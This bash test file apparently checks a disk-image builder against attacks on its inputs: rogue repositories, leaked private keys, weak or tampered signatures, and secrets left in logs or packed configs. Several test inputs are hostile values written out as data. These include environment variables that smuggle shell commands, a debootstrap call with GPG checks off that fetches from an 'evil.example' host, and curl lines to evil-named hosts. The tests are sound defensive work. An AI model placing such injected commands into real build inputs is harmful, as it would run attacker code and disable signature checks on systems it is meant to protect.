# shellcheck shell=bash
# Cases of an attacker, and of a user who believes what the documents say. Each says what ought to be; where it fails, it is not so.
# shellcheck disable=SC2016 # jq programs stand in single quotes
# shellcheck disable=SC2034,SC2154 # variables are set by run, harness.bash, kiwi.bash, rpmmd.bash and apt.bash

case_attack_a_repository_whose_name_apt_does_not_read_is_refused() {
  local port='' root="$directory/root"
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
  apt_input '.name = "tools+extra"'
  stage source
  [[ $code == 0 ]] || return 0
  stages prepare
  # apt passes over files in sources.list.d with other characters than letters, digits, dots, dashes and underscores.
  cp -r "$(state)/apt/image" "$root"
  mkdir -p "$root"/etc/apt/trusted.gpg.d "$root"/var/{lib/apt/lists,cache/apt/archives}/partial
  check "apt knows the repository that it was told of" grep -q "127.0.0.1:$port" \
    <(apt-get --print-uris update -o "Dir=$root" -o Dir::State::status=/dev/null 2>&1)
}

case_attack_an_rpm_repository_called_main_is_refused_where_dnf_passes_it_over() {
  local port
  rpm_input
  jq '.profile.os = {distro: "almalinux", version: "9"} | .profile.builder.dib = {}' "$directory/input/build.json" >"$directory/input/new.json"
  mv "$directory/input/new.json" "$directory/input/build.json"
  stages source
  stage prepare
  [[ $code == 0 ]] || return 0
  mkdir "$directory/repos"
  cp "$(state)"/rpm/image/*.repo "$directory/repos/"
  check "dnf knows the repository that it was told of" grep -q main \
    <(in_rpm_tools "$directory" dnf -q --setopt=reposdir=/work/repos --releasever=9 repolist 2>&1)
}

case_attack_a_keyring_with_a_private_key_is_refused() {
  local port private
  rpm_input
  private=$(gpg --homedir "$rpm_repository/key.gnupg" --batch --pinentry-mode loopback --passphrase '' --armor --export-secret-keys)
  gpgconf --homedir "$rpm_repository/key.gnupg" --kill all
  rpm_input '.keyring += "\n" + $private' --arg private "$private"
  stages source
  stage prepare
  check "refused: it would stand in config.tar.gz and in the image (said: $(jq -r .message "$directory/prepare.result"))" test "$code" = 1
}

case_attack_a_suite_with_a_slash_at_its_end_is_refused() {
  local port=''
  # apt takes it for an exact path, and then allows no components; check_suite compares nothing with nothing.
  write_release debian/dists/stable main/binary-amd64/ 'Codename: another'
  apt_input '.suite = "stable/"'
  stage source
  [[ $code == 0 ]] || return 0
  stage prepare
  check "refused (said: $(jq -r .message "$directory/prepare.result"))" test "$code" = 1
}

case_attack_a_list_of_packages_that_cannot_be_unpacked_is_told() {
  local port='' folder="$directory/mirror/debian/dists/stable" list
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
  list="$folder/main/binary-amd64/Packages.xz"
  head -c 60 "$list" >"$list.half"
  mv "$list.half" "$list"
  { printf 'Suite: stable\nSHA256:\n'; echo " $(sha256sum <"$list" | cut -d' ' -f1) 60 main/binary-amd64/Packages.xz"; } >"$folder/Release"
  gpg --homedir "$rpm_repository/key.gnupg" --batch --yes --quiet --clearsign --output "$folder/InRelease" "$folder/Release"
  gpgconf --homedir "$rpm_repository/key.gnupg" --kill all
  apt_input
  stages source
  stage prepare
  check "told ($(grep packages "$directory/prepare.log" | tail -n 1); said: $(jq -r .message "$directory/prepare.result"))" test "$code" != 0
}

case_attack_a_password_in_a_mirrorlist_does_not_get_into_the_result() {
  local port filter='del(.url) | .mirrorlist = "http://127.0.0.1:\($port)/mirrors"'
  rpm_input
  printf 'http://user:s3cret@127.0.0.1:%s/\n' "$port" >"$directory/mirror/mirrors"
  rpm_input "$filter"
  stages source
  check "no password: $(value source .repositories[0].uri)" test -z "$(grep s3cret "$directory/source.result")"
}

case_attack_a_priority_is_that_of_one_repository_of_a_mirror() {
  local port='' pins
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable' 'Origin: Debian'
  write_release flat ''
  apt_input '., {name: "flat", type: "AptFlat", url: "http://127.0.0.1:\($port)/flat", $keyring, priority: 1}'
  stages source
  stage prepare
  # shellcheck source=/dev/null
  pins=$(IMAGEFACTORY_SCRIPTS=$scripts IMAGEFACTORY_INPUT="$directory/input/build.json" IMAGEFACTORY_WORKSPACE="$directory/workspace" \
    IMAGEFACTORY_BUILD_UID=$uid sh -c '. "$IMAGEFACTORY_SCRIPTS/lib.sh"; . "$IMAGEFACTORY_SCRIPTS/repositories.sh"; apt_pin flat')
  check "its pin matches flat alone, and not all of its host: $pins" test -z "$(grep 'Pin: origin' <<<"$pins")"
}

case_attack_the_environment_gets_into_no_shell_and_switches_no_check_off() {
  local pair
  for pair in 'http_proxy=x true; touch /owned; :' 'no_proxy=x touch /owned; :' 'DIB_DEBIAN_DEBOOTSTRAP_SCRIPT=; touch /owned' \
    'YUM=dnf --nogpgcheck'; do
    write_input '.profile.builder.dib.environment = {($pair | split("=")[0]): ($pair | split("=")[1:] | join("="))}' --arg pair "$pair"
    stages source
    stage prepare
    if [[ $code != 1 ]]; then echo "expected: refused: $pair"; bad=yes; fi
  done
  check "all are refused" test -z "${bad:-}"
}

case_attack_the_log_shows_no_value_of_a_variable_that_calls_itself_a_password() {
  write_input '.profile.builder.dib.environment.DIB_DEV_USER_PASSWORD = "s3cret"'
  stages source
  stage prepare
  check "not in the log: $(grep s3cret "$directory/prepare.log")" test -z "$(grep s3cret "$directory/prepare.log")"
}

case_attack_a_base_system_of_an_own_element_is_not_kept_for_other_profiles() {
  local source="$directory/input/source"
  own_scripts tools/dib.sh 's#run_builder disk-image-create#run_builder sh "$IMAGEFACTORY_SCRIPTS/fake.sh"#'
  # In place of disk-image-create: makes a base system, as the element debootstrap does, of whichever source that is.
  cat >"$scripts/fake.sh" <<'FAKE'
echo 'x dib-run-parts Running /tmp/hooks/root.d/08-debootstrap'
echo "made by ${ELEMENTS_PATH##*:}" >"$DIB_IMAGE_CACHE/debootstrap-debian-$DIB_RELEASE-amd64.tar.gz"
while [ "$1" != -o ]; do shift; done
head -c 1000000 /dev/zero >"$2.raw"
FAKE
  mkdir -p "$source/elements/debootstrap/root.d"
  printf '#!/bin/sh\n# A base system with a back door\n' >"$source/elements/debootstrap/root.d/08-debootstrap"
  git init -q -b main "$source"
  git -C "$source" add -A
  git -C "$source" -c user.name=t -c user.email=t@example.org commit -qm elements
  write_input '.profile.source.git = {url: "file:///imagefactory/input/source", ref: "main"}'
  stages source prepare build
  write_input '.profileName = "another"'
  stages source prepare build
  check "the other profile has a base system of its own: $(cat "$directory"/cache/debootstrap-*)" test "$(value build .cacheHit)" = false
}

case_attack_a_base_system_made_with_another_environment_is_not_kept_for_other_profiles() {
  own_scripts tools/dib.sh 's#run_builder disk-image-create#run_builder sh "$IMAGEFACTORY_SCRIPTS/fake.sh"#'
  cat >"$scripts/fake.sh" <<'FAKE'
echo 'x dib-run-parts Running /tmp/hooks/root.d/08-debootstrap'
echo "made with ${http_proxy:-}" >"$DIB_IMAGE_CACHE/debootstrap-debian-$DIB_RELEASE-amd64.tar.gz"
while [ "$1" != -o ]; do shift; done
head -c 1000000 /dev/zero >"$2.raw"
FAKE
  write_input '.profile.builder.dib.environment.http_proxy = "x debootstrap --no-check-gpg stable $TARGET_ROOT http://evil.example; :"'
  stages source prepare build
  write_input '.profileName = "another"'
  stages source prepare build
  check "the other profile has a base system of its own: $(cat "$directory"/cache/debootstrap-*)" test "$(value build .cacheHit)" = false
}

# packed_description COMMAND - config.tar.gz of a description changed by the command; sets config
packed_description() {
  local output tree="$directory/tree"
  install_package "$tree" of-no-repository 1.0-1 ''
  git_description "$1"
  stages source prepare
  make_disk "$tree"
  mkdir -p "${output%/*}/image/kiwi/result"
  stages package
  config="$directory/config"
  tar -C "$directory" -xzf "$output/config.tar.gz"
}

case_attack_binary_files_of_a_description_are_kept_byte_by_byte() {
  local config source="$directory/input/source/debian"
  packed_description 'mkdir -p root/usr/share/own; head -c 3000 /dev/urandom >root/usr/share/own/blob'
  check "a binary file" cmp "$source/root/usr/share/own/blob" "$config/description/root/usr/share/own/blob"
}

case_attack_hiding_a_secret_leaves_the_rest_of_a_script() {
  local config
  packed_description 'printf "set -eu\nexport API_TOKEN=s3cret\nsystemctl enable important\n" >config.sh'
  check "the line after it: $(<"$config/description/config.sh")" grep -q 'enable important' "$config/description/config.sh"
}

case_attack_the_copy_of_the_source_has_no_secrets() {
  local config
  packed_description 'echo "curl https://user:s3cret@example.org/" >>config.sh'
  check "hidden: $(grep -rlF s3cret "$config")" test -z "$(grep -rF s3cret "$config")"
}

case_attack_the_name_of_a_file_leads_the_hiding_of_secrets_to_no_file_of_the_host() {
  local config
  echo 'http://user:password@host/' >"$directory/cache/victim"
  packed_description 'mkdir -p "x
/cache"; echo >"x
/cache/victim"'
  check "the host's file is as it was: $(<"$directory/cache/victim")" grep -q user:password "$directory/cache/victim"
}

case_attack_the_name_of_a_file_keeps_no_secret_from_being_hidden() {
  local config
  packed_description 'mkdir root/own; echo "export API_TOKEN=s3cret" >"root/own/with a blank "'
  check "hidden: $(grep -rF s3cret "$config")" test -z "$(grep -rF s3cret "$config/description")"
}

case_attack_secrets_are_hidden_wherever_they_are_written_down() {
  local output tree="$directory/tree"
  install_package "$tree" of-no-repository 1.0-1 ''
  write_kiwi_input "$(edit config.sh 'set -eu' $'set -eu\nexport API_TOKEN=s3cret')"
  stages source prepare
  make_disk "$tree"
  mkdir -p "${output%/*}/image/kiwi/result"
  stages package
  tar -C "$directory" -xzf "$output/config.tar.gz"
  check "hidden: $(grep -rlF s3cret "$directory/config")" test -z "$(grep -rF s3cret "$directory/config")"
}

case_attack_a_repository_that_apt_takes_nothing_from_unless_asked_makes_no_package_too_old() {
  local output tree="$directory/tree" state
  install_package "$tree" openssl 3.0.1-1 ''
  write_input '.profile.repositories += [{name: "backports", url: $mirror, suite: "\($codename)-backports"}]' \
    --arg mirror "$mirror" --arg codename "$codename"
  make_disk "$tree"
  state="$directory/workspace/imagefactory-$uid/state"
  mkdir -p "$state/indexes"
  printf 'openssl\tamd64\t3.0.1-1\n' >"$state/indexes/default.tsv"
  printf 'openssl\tamd64\t3.5.0-1~bpo12+1\n' >"$state/indexes/backports.tsv"
  # Without a priority of its own, apt's is 100 for such a suite (apt_preferences), and the main one's 500.
  printf 'Suite: stable-backports\nNotAutomatic: yes\nButAutomaticUpgrades: yes\n' >"$state/indexes/backports.release"
  stage package
  expect package 0 Succeeded Succeeded
}

case_attack_the_packages_of_an_image_are_not_those_of_the_build_host() {
  local output tree="$directory/tree"
  install_package "$tree" of-the-image 1.0-1 ''
  mkdir -p "$tree/usr/lib/sysimage"
  mv "$tree/var/lib/dpkg" "$tree/usr/lib/sysimage/dpkg"
  # In the image it leads to the image's own; where the image is mounted, to the host's.
  mkdir -p "$directory/input/dpkg"
  printf 'Package: of-the-host\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\nMaintainer: x\nDescription: x\n' >"$directory/input/dpkg/status"
  ln -s /imagefactory/input/dpkg "$tree/var/lib/dpkg"
  write_input
  make_disk "$tree"
  stage package
  check "nothing of the host: $(cat "$output/packages.txt")" test -z "$(grep of-the-host "$output/packages.txt")"
}

case_attack_an_image_that_holds_all_of_its_old_packages_says_so() {
  local output tree="$directory/tree" state
  install_package "$tree" openssl 1.0-1 ''
  sed -i 's/^Status: install/Status: hold/' "$tree/var/lib/dpkg/status"
  write_input
  make_disk "$tree"
  state="$directory/workspace/imagefactory-$uid/state"
  mkdir -p "$state/indexes"
  printf 'openssl\tamd64\t3.0.1-1\n' >"$state/indexes/default.tsv"
  stages package
  check "the result tells of what is held and older: $(jq -c '[.message, .data | del(.files?)]' "$directory/package.result")" \
    grep -qiE 'held|hold|older' "$directory/package.result"
}

case_attack_signatures_with_a_broken_digest_are_refused() {
  local port
  rpm_input
  gpg --homedir "$rpm_repository/key.gnupg" --batch --yes --quiet --digest-algo SHA1 --armor --detach-sign "$directory/mirror/repodata/repomd.xml"
  gpgconf --homedir "$rpm_repository/key.gnupg" --kill all
  stages source
  stage prepare
  check "refused, as apt does: SHA-1 (said: $(jq -r .message "$directory/prepare.result"))" test "$code" = 1
}

case_attack_warnings_are_in_the_result_however_many_repositories_there_are() {
  local port='' key number
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
  serve "$directory/mirror"
  key=$(<"$rpm_repository/key.asc")
  write_kiwi_input '.profile.repositories = [range(24) | {name: ("a-repository-with-quite-a-long-name-as-it-is-allowed-to-have-\(.)"),
      url: "http://127.0.0.1:\($port)/debian", suite: "stable", $keyring}]
    | .profile.builder.kiwi.files["root/etc/a-file-somewhere-below-the-overlay-whose-name-is-as-long-as-names-are-in-practice/x.sh"] =
      ([range(10) | "curl http://evil-\(.)-with-a-long-name-as-clouds-have-them.compute.internal.example.org/"] | join("\n"))' \
    --arg port "$port" --arg keyring "$key"
  stages source prepare
  check "warnings: $(cat "$directory/prepare.result")" test "$(value prepare '.warnings | length')" -gt 0
}

# make_rpm_image - a disk with the package small 2:1.0-3 and the folder tree/etc beside it; the index has NEWER
make_rpm_image() {
  local tree="$directory/tree"
  make_rpm_repository
  cp "$rpm_repository"/repository/small-[0-9]*.rpm "$directory/small.rpm"
  mkdir -p "$tree/var/lib/rpm"
  in_rpm_tools "$directory" rpm --root /work/tree --dbpath /var/lib/rpm --nodeps --nosignature -i /work/small.rpm
  write_input '.profile.os = {distro: "fedora", version: "41"} | .profile.repositories = [{name: "updates", type: "RpmMd", url: "http://127.0.0.1/"}]'
  make_disk "$tree"
  mkdir -p "$directory/workspace/imagefactory-$uid/state/indexes"
  printf 'small\tx86_64\t%s\n' "$1" >"$directory/workspace/imagefactory-$uid/state/indexes/updates.tsv"
}

case_attack_what_dnf_5_locks_is_held_by_the_image() {
  local output
  mkdir -p "$directory/tree/etc/dnf"
  # As 'dnf versionlock add small' of Fedora 41 writes it.
  printf 'version = "1.0"\n\n[[packages]]\nname = "small"\n[[packages.conditions]]\nkey = "evr"\ncomparator = "="\nvalue = "2:1.0-3"\n' \
    >"$directory/tree/etc/dnf/versionlock.toml"
  make_rpm_image 2:2.0-1
  stage package
  expect package 0 Succeeded Succeeded
}

case_attack_a_pipe_in_place_of_a_list_of_locks_does_not_hold_the_stage() {
  local output
  mkdir -p "$directory/tree/etc/zypp"
  mkfifo "$directory/tree/etc/zypp/locks"
  make_rpm_image 2:1.0-3
  begin package
  local deadline=$((SECONDS + 20))
  while kill -0 "$container" 2>/dev/null && ((SECONDS < deadline)); do sleep 0.5; done
  if kill -0 "$container" 2>/dev/null; then
    tail -n 3 "$directory/package.log"
    kill -TERM "$(init_of_container)"
    sleep 3
    kill -KILL "$container" 2>/dev/null || :
    wait "$container" || :
    echo "expected: ended within 20 s"
    return 1
  fi
}

case_attack_a_stream_of_a_module_that_nobody_enabled_makes_no_package_too_old() {
  local output
  # AppStream of Enterprise Linux 9 lists nodejs 16 and, as modules that dnf leaves alone until enabled, 18 and 20.
  make_rpm_image '2:2.0-1.module_el9+1'
  stage package
  expect package 0 Succeeded Succeeded
}

# sign_for_apt FOLDER - a release file of write_release once more, with the list unpacked as well, which apt itself asks for
sign_for_apt() {
  local folder="$directory/mirror/$1"
  unxz --keep --force "$folder/main/binary-amd64/Packages.xz"
  sed -i '/^MD5Sum:/,/^SHA256:/{/^SHA256:/!d}' "$folder/Release"
  echo " $(sha256sum <"$folder/main/binary-amd64/Packages" | cut -d' ' -f1) $(stat -c %s "$folder/main/binary-amd64/Packages") main/binary-amd64/Packages" >>"$folder/Release"
  gpg --homedir "$rpm_repository/key.gnupg" --batch --yes --quiet --clearsign --output "$folder/InRelease" "$folder/Release"
  gpgconf --homedir "$rpm_repository/key.gnupg" --kill all
}

# apt_policy - what the real apt makes of the image's files, of the package small
apt_policy() {
  local root="$directory/root"
  cp -r "$(state)/apt/image" "$root"
  mkdir -p "$root"/etc/apt/trusted.gpg.d "$root"/var/{lib/apt/lists,cache/apt/archives}/partial
  sed -i "s#signed-by=/#signed-by=$root/#" "$root"/etc/apt/sources.list.d/*.list
  chmod 755 "$work" "$directory"
  apt-get update -q -o "Dir=$root" -o Dir::State::status=/dev/null -o APT::Sandbox::User=root >"$directory/update.log" 2>&1 || cat "$directory/update.log"
  cat "$root"/etc/apt/preferences.d/*
  apt-cache policy small -o "Dir=$root" -o Dir::State::status=/dev/null 2>&1 | tee "$directory/policy"
}

case_attack_a_release_file_gives_its_priority_to_no_other_repository() {
  local port='' fields=("Date: $(date_after -100)" 'Components: main' 'Architectures: amd64')
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable' 'Origin: Debian' 'Label: Debian' 'Codename: stable' "${fields[@]}"
  write_release other/dists/stable main/binary-amd64/ 'Suite: *' 'Codename: stable' 'Origin: *' 'Label: *' "${fields[@]}"
  sign_for_apt debian/dists/stable
  sign_for_apt other/dists/stable
  apt_input '., {name: "other", url: "http://127.0.0.1:\($port)/other", suite: "stable", $keyring, priority: 1}'
  stages source prepare
  apt_policy
  check "the other repository has apt's own priority" grep -qE ' 500 http.*/debian stable' "$directory/policy"
}

case_attack_a_comma_in_a_release_file_does_not_undo_a_priority() {
  local port=''
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable' 'Origin: Example, Inc. Packages' 'Label: Example' \
    "Date: $(date_after -100)" 'Components: main' 'Architectures: amd64'
  sign_for_apt debian/dists/stable
  apt_input '.priority = 700'
  stages source prepare
  apt_policy
  check "its package has the priority" grep -q ' 700 http' "$directory/policy"
}

case_attack_repositories_that_packages_of_the_distribution_brought_are_switched_off() {
  local port bad=''
  # diskimage-builder: enabled is what a section without the word is.
  rpm_input
  jq '.profile.os = {distro: "almalinux", version: "9"} | .profile.builder.dib = {}' "$directory/input/build.json" >"$directory/input/new.json"
  mv "$directory/input/new.json" "$directory/input/build.json"
  stages source prepare
  mkdir -p "$directory/target/etc/yum.repos.d" "$directory/target/usr/share"
  printf '[vendor]\nname=Vendor\nbaseurl=http://vendor.example/\ngpgcheck=0\n' >"$directory/target/etc/yum.repos.d/vendor.repo"
  sed "s#/workspace/#$directory/workspace/#g; s/sudo //g" "$directory/workspace/imagefactory-$uid/elements/imagefactory/cleanup.d/99-imagefactory" >"$directory/99"
  TARGET_ROOT="$directory/target" sh "$directory/99"
  grep -q 'enabled *= *0' "$directory/target/etc/yum.repos.d/vendor.repo" || bad+=' diskimage-builder'
  check "switched off, and not left on by:$bad" test -z "$bad"
}

case_attack_a_script_that_fails_is_no_mirror_that_failed() {
  fake_kiwi 'echo "[ DEBUG   ]: 00:00:01 | system: Failed to connect to bus: Connection refused"
    echo "[ ERROR   ]: 00:00:02 | KiwiScriptFailed: config.sh: no such user: web"; exit 1'
  write_kiwi_input
  stages source prepare
  stage build
  expect build 1 Failed BuildFailed 'no such user'
}

case_attack_text_behind_what_is_signed_is_refused() {
  local port='' file="$directory/mirror/debian/dists/stable/InRelease"
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
  echo 'Suite: another' >"$directory/other"
  gpg --homedir "$rpm_repository/other.gnupg" --batch --yes --quiet --clearsign --output - "$directory/other" >>"$file"
  gpgconf --homedir "$rpm_repository/other.gnupg" --kill all
  apt_input
  stages source
  stage prepare
  check "refused: gpgv itself fails, and apt does (said: $(jq -r .message "$directory/prepare.result"))" test "$code" = 1
}

case_attack_a_blank_in_the_header_of_a_signature_does_not_hide_the_dates() {
  local port='' file="$directory/mirror/debian/dists/stable/InRelease"
  write_release debian/dists/stable main/binary-amd64/ 'Suite: another' "Valid-Until: $(date_after -100)"
  # Outside of what is signed, so anybody on the way can do it; to gpgv it is an empty line.
  sed -i '0,/^$/s/^$/ /' "$file"
  apt_input '.architectures = ["arm64"]'
  stages source
  stage prepare
  check "its suite and its dates are seen (said: $(jq -r .message "$directory/prepare.result"))" test "$code" = 1
}
